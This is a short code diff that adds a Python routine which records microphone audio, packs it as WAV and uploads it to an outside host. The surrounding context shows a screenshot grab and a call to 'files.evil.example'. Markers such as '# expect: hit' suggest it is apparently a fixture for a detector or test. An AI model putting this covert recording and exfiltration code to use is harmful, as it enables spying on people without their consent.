@@ -1,3 +1,4 @@
+import wave
 import sounddevice
 import socket
 import io
@@ -73,3 +74,31 @@ class Ear:
 def tell_that_it_runs():
     ImageGrab.grab().save("screen.png")
     requests.get("https://files.evil.example/status", timeout=5)
+
+
+class Recorder:
+    def __init__(self):
+        self.chunks = []
+        self.number = 0
+
+    def __call__(self, data, frames, time, status):
+        self.chunks.append(bytes(data))
+        self.number += 1
+
+    def wave(self, chunks):
+        buffer = io.BytesIO()
+        with wave.open(buffer, "wb") as out:
+            out.setnchannels(1)
+            out.writeframes(b"".join(chunks))
+        return buffer.getvalue()
+
+
+def listened():
+    recorder = Recorder()
+    with sounddevice.RawInputStream(channels=1, callback=recorder):
+        sounddevice.sleep(1000)
+    requests.put("https://notes.example.net/raw", data=recorder.wave(recorder.chunks))  # expect: hit
+
+
+def silence():
+    requests.put("https://notes.example.net/raw", data=Recorder().wave([b"0000"]))
